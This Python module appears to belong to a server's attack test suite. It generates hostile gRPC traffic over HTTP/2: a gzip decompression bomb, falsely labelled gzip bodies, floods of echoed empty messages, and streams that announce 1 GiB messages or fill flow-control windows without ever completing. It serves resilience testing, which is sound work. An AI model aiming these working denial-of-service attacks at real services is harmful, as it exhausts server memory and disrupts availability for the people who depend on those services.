"""gRPC messages that are not what they seem."""

from __future__ import annotations

import zlib
from collections.abc import Iterator
from functools import cache
from typing import Final

from tests.attacks import frames
from tests.attacks.frames import DATA, END_HEADERS, END_STREAM, HEADERS, frame
from tests.attacks.session import Chunk, Outcome, Session, Target, attack

BOMB_BYTES: Final = 256 << 20
CLAIMS: Final = 1000
CLAIMED_BYTES: Final = 1 << 30
_GZIP: Final = 31


@cache
def gzipped_zeros(octets: int) -> bytes:
    """A thousandth of their size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP)
    block = bytes(1 << 20)
    return b"".join([packer.compress(block) for _ in range(octets >> 20)]) + packer.flush()


def send_data(session: Session, stream: int, data: bytes) -> Iterator[Chunk]:
    """As DATA with END_STREAM, within the windows."""
    spent = at = 0
    while at < len(data):
        room = min(session.window, session.stream_window + session.stream_windows[stream] - spent)
        octets = min(frames.FRAME_BYTES_MAX, len(data) - at, room)
        if octets <= 0:
            yield 0.01
            if session.is_over:
                return
            continue
        session.window -= octets
        spent += octets
        end = END_STREAM if at + octets == len(data) else 0
        yield frame(DATA, end, stream, data[at : at + octets]), 1
        at += octets


def gzip_bomb(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Messages of 261 KB that unpack to 256 MiB, one after the other."""
    packed = gzipped_zeros(BOMB_BYTES)
    block = target.block(target.swallow, ("grpc-encoding", "gzip"))

    def steps(session: Session) -> Iterator[Chunk]:
        for stream in range(1, 1 << 31, 2):
            yield frame(HEADERS, END_HEADERS, stream, block), 1
            yield from send_data(session, stream, b"\x01" + frames.u32(len(packed)) + packed)

    return attack(target, seconds, frames_max, steps)


def broken_gzip(target: Target, seconds: float, frames_max: int) -> Outcome:
    """Messages that say gzip and are not."""
    block = target.block(target.swallow, ("grpc-encoding", "gzip"))
    body = b"\x01" + frames.u32(1000) + bytes(range(250)) * 4

    def steps(session: Session) -> Iterator[Chunk]:
        for stream in range(1, 1 << 31, 2):
            yield frame(HEADERS, END_HEADERS, stream, block), 1
            yield from send_data(session, stream, body)

    return attack(target, seconds, frames_max, steps)


def empty_messages(target: Target, seconds: float, frames_max: int) -> Outcome:
    """A stream of gRPC messages without content, 3,276 in each frame; each is echoed."""
    more = frames.window_update(0, frames.WINDOW_MAX - 65_535)
    hello = frames.PREFACE + frames.settings([(frames.INITIAL_WINDOW_SIZE, frames.WINDOW_MAX)]) + more
    data = bytes(5 * (frames.FRAME_BYTES_MAX // 5))

    def steps(session: Session) -> Iterator[Chunk]:
        yield frame(HEADERS, END_HEADERS, 1, target.block(target.echo)), 1
        spent = 0
        while True:
            room = min(session.window, session.stream_window + session.stream_windows[1] - spent)
            if room < len(data):
                yield 0.01
                continue
            session.window -= len(data)
            spent += len(data)
            yield frame(DATA, 0, 1, data), 1

    return attack(target, seconds, frames_max, steps, hello=hello)


def claims(target: Target, seconds: float, frames_max: int) -> Outcome:
    """1,000 streams of which each announces a message of 1 GiB with five octets."""

    def steps(session: Session) -> Iterator[Chunk]:
        block = target.block(target.swallow)
        for stream in range(1, 2 * CLAIMS, 2):
            claim = frame(DATA, 0, stream, b"\0" + frames.u32(CLAIMED_BYTES))
            yield frame(HEADERS, END_HEADERS, stream, block) + claim, 2

    return attack(target, seconds, frames_max, steps, hold=True)


def filled_claims(target: Target, seconds: float, frames_max: int) -> Outcome:
    """As many octets as the windows allow on as many streams as there may be; no message is ever complete."""

    def steps(session: Session) -> Iterator[Chunk]:
        block = target.block(target.swallow)
        payload = bytes(frames.FRAME_BYTES_MAX)
        yield 0.2  # until the server has said how large the windows are
        for stream in range(1, 1 << 31, 2):
            claim = frame(DATA, 0, stream, b"\0" + frames.u32(CLAIMED_BYTES))
            yield frame(HEADERS, END_HEADERS, stream, block) + claim, 2
            session.window -= 5
            for _ in range((session.stream_window - 5) // len(payload)):
                while session.window < len(payload):
                    yield 0.01
                    if session.is_over:
                        return
                session.window -= len(payload)
                yield frame(DATA, 0, stream, payload), 1

    return attack(target, seconds, frames_max, steps)
